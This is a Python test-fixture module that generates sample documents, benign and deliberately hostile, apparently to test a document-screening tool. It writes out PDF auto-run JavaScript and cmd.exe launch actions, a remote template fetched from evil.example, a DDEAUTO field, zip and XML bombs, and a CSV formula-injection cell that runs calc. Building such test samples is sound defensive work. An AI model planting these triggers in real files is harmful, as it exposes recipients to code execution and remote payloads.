"""Small documents for tests, sound and hostile, made when they are needed."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence

AUTHOR = "Jane Doe"
XMP = (
    b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><dc:creator><rdf:li>Jane Doe</rdf:li></dc:creator>"
    b"</x:xmpmeta>"
)


def pdf(
    *pages: str,
    info: bytes = b"",
    root: bytes = b"",
    more: Sequence[bytes] = (),
    trailer: bytes = b"",
) -> bytes:
    """A PDF with a page for each text. `more` are further objects, which follow two for each page
    after number 3."""
    objects = [b"", b"", b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    kids = []
    for text in pages:
        lines = (line.encode("latin-1", "replace") for line in text.split("\n"))
        shown = b" T* ".join(b"(" + line.translate(None, b"()\\") + b") Tj" for line in lines)
        body = zlib.compress(b"BT /F1 11 Tf 40 800 Td 13 TL " + shown + b" ET")
        objects.append(_stream(b"/Filter /FlateDecode", body))
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R"
            b" /Resources << /Font << /F1 3 0 R >> >> >>" % len(objects)
        )
        kids.append(b"%d 0 R" % len(objects))
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R %b >>" % root
    objects[1] = b"<< /Type /Pages /Kids [%b] /Count %d >>" % (b" ".join(kids), len(kids))
    objects += more
    if info:
        objects.append(info)
        trailer += b" /Info %d 0 R" % len(objects)
    return _written(objects, trailer)


def _stream(fields: bytes, body: bytes) -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(body), fields, body)


def _written(objects: Sequence[bytes], trailer: bytes) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, value in enumerate(objects, 1):
        places.append(b"%010d 00000 n \n" % len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, value)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n%b" % (len(objects) + 1, b"".join(places))
    out += b"trailer\n<< /Size %d /Root 1 0 R %b >>\n" % (len(objects) + 1, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def heavy_pdf(word: str, size: int) -> bytes:
    """A PDF of many bytes, most of them in a picture that is not shown, with a word on page 40."""
    pages = [f"Page {number} of the handbook about visits." for number in range(1, 61)]
    pages[39] += f" The {word} is here."
    return pdf(*pages, more=[_stream(b"", bytes(range(256)) * (size // 256))])


_DECLARED = {
    ".docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    ".xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    ".pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}
_ODF = {".odt": "text", ".ods": "spreadsheet", ".odp": "presentation"}
_BODY = {
    ".docx": ("word/document.xml", '<w:document xmlns:w="w"><w:p><w:t>{}</w:t></w:p></w:document>'),
    ".xlsx": (
        "xl/sharedStrings.xml",
        '<sst xmlns="x"><si><t>{}</t></si></sst>',
    ),
    ".pptx": (
        "ppt/slides/slide1.xml",
        '<p:sld xmlns:p="p" xmlns:a="a"><a:p><a:t>{}</a:t></a:p></p:sld>',
    ),
}


def office(
    ending: str, text: str = "Words.", more: Mapping[str, str | bytes] | None = None, **types: str
) -> bytes:
    """An office document with a text. `more` are further parts, or others in place of its own."""
    parts: dict[str, str | bytes] = {}
    if ending in _ODF:
        kind = f"application/vnd.oasis.opendocument.{_ODF[ending]}"
        parts["mimetype"] = types.get("declared", kind)
        parts["META-INF/manifest.xml"] = "<manifest/>"
        parts["content.xml"] = (
            '<office:document-content xmlns:office="o" xmlns:text="t"><office:body>'
            f"<text:p>{text}</text:p></office:body></office:document-content>"
        )
    else:
        name, declared = _DECLARED[ending]
        declared = types.get("declared", declared)
        parts["[Content_Types].xml"] = (
            f'<Types><Override PartName="/{name}" ContentType="application/{declared}"/></Types>'
        )
        parts[name] = "<root/>"
        body, shape = _BODY[ending]
        parts[body] = shape.format(text)
    return zipped({**parts, **(more or {})})


def zipped(parts: Mapping[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _locked_zip() -> bytes:
    content = bytearray(office(".docx"))
    at = content.find(b"PK\1\2")
    while at >= 0:
        content[at + 8] |= 1
        at = content.find(b"PK\1\2", at + 4)
    return bytes(content)


_RELATION = (
    '<Relationships><Relationship Id="r1" TargetMode="External" Target="https://evil.example/t.dotm"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"/></Relationships>'
)
CORE = f"<cp:coreProperties><dc:creator>{AUTHOR}</dc:creator></cp:coreProperties>"
NAMED_CORE = (
    '<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:title>Our report</dc:title>'
    f"<dc:creator>{AUTHOR}</dc:creator><cp:lastModifiedBy>{AUTHOR}</cp:lastModifiedBy>"
    "</cp:coreProperties>"
)
NAMED_META = (
    '<office:document-meta xmlns:office="o" xmlns:dc="d" xmlns:meta="m"><office:meta>'
    f"<dc:title>Our report</dc:title><meta:initial-creator>{AUTHOR}</meta:initial-creator>"
    "</office:meta></office:document-meta>"
)
_COMMENT = b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /T (Jane Doe) /Contents (Why?) >>"

# what a case calls for in its `media.txt`, by name
DOCUMENTS: dict[str, Callable[[], bytes]] = {
    "pdf": lambda: pdf("Words."),
    "named pdf": lambda: pdf(
        "Words.",
        info=b"<< /Author (Jane Doe) /Title (Our report) >>",
        root=b"/Metadata 6 0 R",
        more=[_stream(b"/Type /Metadata /Subtype /XML", XMP)],
    ),
    "commented pdf": lambda: pdf("Words.", more=[_COMMENT]),
    "personal pdf": lambda: pdf("Call Bob.", "His NHS number is 943 476 5919."),
    "locked pdf": lambda: pdf("Words.", trailer=b"/Encrypt << /Filter /Standard /V 1 /R 2 >>"),
    "script pdf": lambda: pdf("W", root=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "launching pdf": lambda: pdf("W", root=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "attached pdf": lambda: pdf("W", root=b"/Names << /EmbeddedFiles << /Names [] >> >>"),
    "form pdf": lambda: pdf("W", root=b"/AcroForm << /XFA [] >>"),
    "cut pdf": lambda: pdf("Words.")[:120],
    "docx": lambda: office(".docx"),
    "macro docx": lambda: office(".docx", more={"word/vbaProject.bin": b"x"}),
    "macro type docx": lambda: office(
        ".docx", declared="vnd.ms-word.document.macroEnabled.main+xml"
    ),
    "locked docx": lambda: b"\xd0\xcf\x11\xe0" + bytes(600),
    "locked zip docx": _locked_zip,
    "embedded pptx": lambda: office(".pptx", more={"ppt/embeddings/oleObject1.bin": b"x"}),
    "template docx": lambda: office(
        ".docx", more={"word/_rels/settings.xml.rels": _RELATION.format("attachedTemplate")}
    ),
    "linked docx": lambda: office(
        ".docx", more={"word/_rels/document.xml.rels": _RELATION.format("hyperlink")}
    ),
    "linked picture pptx": lambda: office(
        ".pptx", more={"ppt/_rels/p.xml.rels": _RELATION.format("image")}
    ),
    "fetching docx": lambda: office(
        ".docx",
        more={"word/x.xml": '<w:p xmlns:w="w"><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:p>'},
    ),
    "linked xlsx": lambda: office(".xlsx", more={"xl/externalLinks/externalLink1.xml": "<x/>"}),
    "changed docx": lambda: office(
        ".docx", more={"word/x.xml": '<w:ins xmlns:w="w" w:author="Jane Doe"/>'}
    ),
    "commented odt": lambda: office(
        ".odt", "<office:annotation><text:p>Why?</text:p></office:annotation>"
    ),
    "bomb docx": lambda: office(".docx", more={"word/media/a.bmp": bytes(100_000_001)}),
    "xml bomb docx": lambda: office(
        ".docx",
        more={"word/x.xml": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'},
    ),
    "xlsx": lambda: office(".xlsx"),
    "pptx": lambda: office(".pptx"),
    "odt": lambda: office(".odt"),
    "ods": lambda: office(".ods"),
    "odp": lambda: office(".odp"),
    "txt": "Words, and a café.".encode,
    "csv": lambda: b"Where,Visits\nAshby,12\n",
    "formula csv": lambda: b"Where,Visits\nAshby,=cmd|' /C calc'!A0\n",
    "program": lambda: b"MZ\x90\0\3\0\0\0" + bytes(60),
}
